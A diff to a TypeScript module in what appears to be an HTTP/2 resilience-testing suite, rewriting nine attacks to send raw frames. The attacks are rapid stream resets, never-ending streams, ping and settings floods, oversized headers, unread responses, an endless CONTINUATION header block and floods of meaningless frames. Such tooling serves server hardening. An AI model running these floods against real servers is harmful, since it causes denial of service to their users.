@@ -1,15 +1,52 @@
-import { type ClientHttp2Session, connect } from "node:http2";
+import type { Socket } from "node:net";
 import type { Attack } from "../attack.ts";
 import type { Attacker } from "../attacker/attacker.ts";
-import { noteClosed } from "../attacker/figures.ts";
-import { placeOf } from "../target.ts";
+import {
+  bodyFrames,
+  FRAME,
+  http2Frame,
+  PREFACE,
+  requestFrames,
+  resetFrame,
+  streamId,
+} from "../attacker/http2-frames.ts";
+import { type Place, placeOf } from "../target.ts";
 
-/** An attack on one HTTP/2 connection, a step a turn until time is over. */
+/** Milliseconds in which the server may still act on frames. */
+const AFTERMATH = 1_000;
+/** Frames, or requests, that are written at once. */
+const AT_ONCE = 50;
+
+/**
+ * Writes frames on one HTTP/2 connection, until time is over or it was done `most` times.
+ *
+ * @param frames the n-th frames, counted from 0
+ */
+export async function pourHttp2(
+  attacker: Attacker,
+  frames: (n: number, place: Place) => Buffer,
+  { most = Number.POSITIVE_INFINITY, reads = true } = {},
+): Promise<Socket | undefined> {
+  const place = placeOf(attacker.target.http2!);
+  const socket = await attacker.openSocket(place, ["h2"]);
+  if (socket === undefined) return undefined;
+  socket.write(PREFACE);
+  if (!reads) socket.pause();
+  let n = 0;
+  await attacker.pour(socket, () => {
+    const some: Buffer[] = [];
+    while (some.length < AT_ONCE && n < most) some.push(frames(n++, place));
+    return some.length > 0 ? Buffer.concat(some) : undefined;
+  });
+  if (n >= most) await Promise.race([attacker.untilClosed([socket]), attacker.wait(AFTERMATH)]);
+  return socket;
+}
+
 function overHttp2(
   number: string,
   title: string,
-  step: (session: ClientHttp2Session, path: string) => void,
-  most = Number.POSITIVE_INFINITY,
+  frames: (n: number, place: Place) => Buffer,
+  options?: { most?: number; reads?: boolean },
 ): Attack {
   return {
     id: `ATK-I${number}`,
@@ -17,81 +54,68 @@ function overHttp2(
     over: "sockets",
     needs: ["http2"],
     async run(attacker) {
-      const session = open(attacker);
-      const { path } = placeOf(attacker.target.http!);
-      for (let i = 0; i < most && !attacker.signal.aborted; i++) {
-        if (session.closed || session.destroyed) break;
-        step(session, path);
-        if (i % 50 === 49) await new Promise(setImmediate);
-      }
-      if (most !== Number.POSITIVE_INFINITY) await attacker.wait(1_000);
-      session.destroy();
+      await pourHttp2(attacker, frames, options);
       return undefined;
     },
   };
 }
 
-function open({ target, signal, figures }: Attacker): ClientHttp2Session {
-  const options = { rejectUnauthorized: false, localAddress: target.localAddress };
-  const session = connect(new URL("/", target.http), options as object);
-  let end = "ended";
-  figures.opened++;
-  session.on("error", (error) => {
-    end = error.message;
+function post(n: number, { authority, path, tls }: Place, headers = {}): Buffer {
+  return requestFrames(streamId(n), {
+    ":method": "POST",
+    ":scheme": tls ? "https" : "http",
+    ":authority": authority,
+    ":path": path,
+    ...headers,
   });
-  session.once("goaway", (code) => {
-    end = `GOAWAY ${code}`;
-  });
-  session.once("close", () => {
-    if (!signal.aborted) noteClosed(figures, end);
-  });
-  signal.addEventListener("abort", () => session.destroy(), { once: true });
-  return session;
 }
 
-function request(session: ClientHttp2Session, path: string) {
-  const stream = session.request({ ":method": "POST", ":path": path });
-  stream.on("error", () => {});
-  return stream;
-}
+/** Header fields `x` without a value. */
+const FIELDS = Buffer.concat(Array(100).fill(Buffer.of(0, 1, 0x78, 0)));
+
+/** A frame of an unknown type, and a priority. */
+const NOTHING = Buffer.concat([
+  http2Frame(0x20, 0, 0),
+  http2Frame(FRAME.priority, 0, 1, Buffer.of(0, 0, 0, 0, 1)),
+]);
 
 /** I: HTTP/2 makes requests cheap to start and to drop. */
 export const HTTP2: readonly Attack[] = [
-  overHttp2("01", "Streams are opened and reset as fast as possible.", (session, path) => {
-    request(session, path).close(8);
-  }),
-  overHttp2(
-    "02",
-    "10,000 streams are opened and never end.",
-    (session, path) => {
-      request(session, path);
-    },
-    10_000,
+  overHttp2("01", "Streams are opened and reset as fast as possible.", (n, place) =>
+    Buffer.concat([post(n, place), resetFrame(streamId(n))]),
   ),
-  overHttp2("03", "Pings flood the connection.", (session) => {
-    session.ping(() => {});
-  }),
-  overHttp2("04", "Settings flood the connection.", (session) => {
-    session.settings({ enablePush: false });
-  }),
+  overHttp2("02", "10,000 streams are opened and never end.", post, { most: 10_000 }),
+  overHttp2("03", "Pings flood the connection.", () =>
+    http2Frame(FRAME.ping, 0, 0, Buffer.alloc(8)),
+  ),
+  overHttp2("04", "Settings flood the connection.", () =>
+    http2Frame(FRAME.settings, 0, 0, Buffer.of(0, 2, 0, 0, 0, 0)),
+  ),
   overHttp2(
     "05",
     "Headers of 60 KB are sent on each of many streams.",
-    (session, path) => {
-      const stream = session.request({ ":method": "POST", ":path": path, x: "x".repeat(60_000) });
-      stream.on("error", () => {});
-      stream.end();
-    },
-    2_000,
+    (n, place) =>
+      Buffer.concat([post(n, place, { x: "x".repeat(60_000) }), bodyFrames(streamId(n), "")]),
+    { most: 2_000 },
   ),
   overHttp2(
     "06",
     "Responses are asked for and not read.",
-    (session, path) => {
-      const stream = request(session, path);
-      stream.pause();
-      stream.end(`["push","${"x".repeat(100_000)}"]\n["pull",1]`);
-    },
-    500,
+    (n, place) =>
+      Buffer.concat([
+        post(n, place),
+        bodyFrames(streamId(n), `["push","${"x".repeat(100_000)}"]\n["pull",1]`),
+      ]),
+    { most: 500, reads: false },
   ),
+  overHttp2(
+    "07",
+    "Settings flood the connection, and their acknowledgements aren't read.",
+    () => http2Frame(FRAME.settings, 0, 0),
+    { reads: false },
+  ),
+  overHttp2("08", "A header block never ends: CONTINUATION frames follow each other.", (n) =>
+    http2Frame(n === 0 ? FRAME.headers : FRAME.continuation, 0, 1, FIELDS),
+  ),
+  overHttp2("09", "Frames that mean nothing flood the connection.", () => NOTHING),
 ];
